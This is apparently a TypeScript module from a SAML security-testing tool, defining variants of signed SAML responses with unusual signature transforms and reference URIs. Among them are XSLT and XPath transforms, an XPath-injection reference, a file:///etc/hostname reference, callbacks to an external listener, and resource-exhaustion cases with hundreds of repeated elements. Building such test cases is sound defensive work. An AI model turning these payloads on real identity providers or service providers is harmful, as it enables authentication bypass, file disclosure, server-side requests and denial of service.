import { type Edit, replaced } from './edits'
import { newId } from './response'
import { algorithms, transform, usualTransforms } from './signature'
import { type Forge, takeApart, tampered, type Variants } from './variant'

const xpath = 'http://www.w3.org/TR/1999/REC-xpath-19991116'
const xpathFilter = 'http://www.w3.org/2002/06/xmldsig-filter2'
const enveloped = transform(algorithms.enveloped)
const exclusive = transform(algorithms.exclusive)

const stylesheet =
  '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/">x</xsl:template></xsl:stylesheet>'

/** The provider signs with other transforms than the two that SAML allows. */
export const transforms: Variants = {
  'transform-none': transforming(''),
  'transform-only-enveloped': transforming(enveloped),
  'transform-only-c14n': transforming(exclusive),
  'transform-order': transforming(exclusive + enveloped),
  'transform-enveloped-twice': transforming(enveloped + usualTransforms),
  'transform-c14n-twice': transforming(usualTransforms + exclusive),
  'transform-many': transforming(usualTransforms + exclusive.repeat(1000)),
  'transform-inclusive-c14n': transforming(enveloped + transform('http://www.w3.org/TR/2001/REC-xml-c14n-20010315')),
  'transform-with-comments': transforming(enveloped + transform(`${algorithms.exclusive}WithComments`)),
  'transform-xslt': transforming(
    enveloped + transform('http://www.w3.org/TR/1999/REC-xslt-19991116', stylesheet) + exclusive,
  ),
  'transform-xslt-first': transforming(
    transform('http://www.w3.org/TR/1999/REC-xslt-19991116', stylesheet) + usualTransforms,
  ),
  'transform-xpath': transforming(enveloped + transform(xpath, '<ds:XPath>self::saml:Issuer</ds:XPath>') + exclusive),
  'transform-xpath-alone': transforming(transform(xpath, '<ds:XPath>not(ancestor-or-self::ds:Signature)</ds:XPath>')),
  'transform-xpath-filter': transforming(
    enveloped + transform(xpathFilter, `<f:XPath xmlns:f="${xpathFilter}" Filter="intersect">/*</f:XPath>`) + exclusive,
  ),
  'transform-base64': transforming(enveloped + transform('http://www.w3.org/2000/09/xmldsig#base64') + exclusive),
  'transform-decrypt': transforming(enveloped + transform('http://www.w3.org/2002/07/decrypt#XML') + exclusive),
  'transform-unknown': transforming(enveloped + transform('urn:x') + exclusive),
  'transform-no-algorithm': transforming(`${enveloped}<ds:Transform></ds:Transform>`),
  'transform-parameters': transforming(transform(algorithms.enveloped, '<ds:XPath>/</ds:XPath>') + exclusive),
  'transform-in-no-namespace': transforming(`<Transform Algorithm="${algorithms.enveloped}"></Transform>${exclusive}`),
}

/** The signature is good, and refers to something else than the element that carries it. */
export const references: Variants = {
  'ref-empty': referring('URI=""'),
  'ref-no-uri': referring(''),
  'ref-hash-only': referring('URI="#"'),
  'ref-unknown-id': referring('URI="#_nobody"'),
  'ref-without-hash': signedAt((id) => `URI="${id}"`),
  'ref-escaped-id': signedAt((id) => `URI="#%5F${id.slice(1)}"`),
  'ref-space': signedAt((id) => `URI="#${id} "`),
  'ref-xpointer-root': referring('URI="#xpointer(/)"'),
  'ref-xpointer-id': signedAt((id) => `URI="#xpointer(id('${id}'))"`),
  'ref-xpath-injection': referring(`URI="#x' or '1'='1"`),
  'ref-file': referring('URI="file:///etc/hostname"'),
  'ref-external': (kit) => referring(`URI="${kit.listener}/reference"`)(kit),
  'ref-external-fragment': (kit) => signedAt((id) => `URI="${kit.listener}/reference#${id}"`)(kit),
  'ref-external-schemeless': (kit) => referring(`URI="${kit.listener.replace('http:', '')}/reference"`)(kit),
  'ref-subject': (kit) => {
    const id = newId()
    const assertion = replaced('<saml:Subject>', `<saml:Subject ID="${id}">`)
    return kit.answer({ assertion, recipe: { signedInfo: replaced(/URI="[^"]*"/, `URI="#${id}"`) } })
  },
  'ref-twice': signedInfo((info) => {
    const reference = /<ds:Reference.*<\/ds:Reference>/s.exec(info)?.[0] ?? ''
    return replaced(reference, reference + reference)(info)
  }),
  'ref-manifest': (kit) => {
    const { xml, signature } = takeApart(kit.answer())
    const reference = /<ds:Reference.*<\/ds:Reference>/s.exec(signature)?.[0] ?? ''
    const manifest = `<ds:Object><ds:Manifest Id="_m">${reference}</ds:Manifest></ds:Object>`
    return replaced(signature, replaced('</ds:Signature>', `${manifest}</ds:Signature>`)(signature))(xml)
  },
  'ref-outer-from-inner': (kit) => {
    if (kit.mode !== 'both') return null
    const { xml, assertionSignature } = takeApart(kit.answer())
    const id = /^<[^>]* ID="([^"]+)"/.exec(xml)?.[1] ?? ''
    return replaced(assertionSignature, replaced(/URI="[^"]*"/, `URI="#${id}"`)(assertionSignature))(xml)
  },
  'ref-many': tampered((xml) => {
    const reference = /<ds:Reference.*?<\/ds:Reference>/s.exec(xml)?.[0] ?? ''
    return replaced(reference, reference.repeat(300))(xml)
  }),
}

function transforming(markup: string): Forge {
  return (kit) => kit.answer({ recipe: { transforms: markup } })
}

function signedInfo(edit: Edit): Forge {
  return (kit) => kit.answer({ recipe: { signedInfo: edit } })
}

/** The Reference has this in place of its URI. */
function referring(uri: string): Forge {
  return signedInfo(replaced(/URI="[^"]*"/, uri))
}

function signedAt(uri: (id: string) => string): Forge {
  return signedInfo((info) => replaced(/URI="[^"]*"/, uri(/URI="#([^"]*)"/.exec(info)?.[1] ?? ''))(info))
}
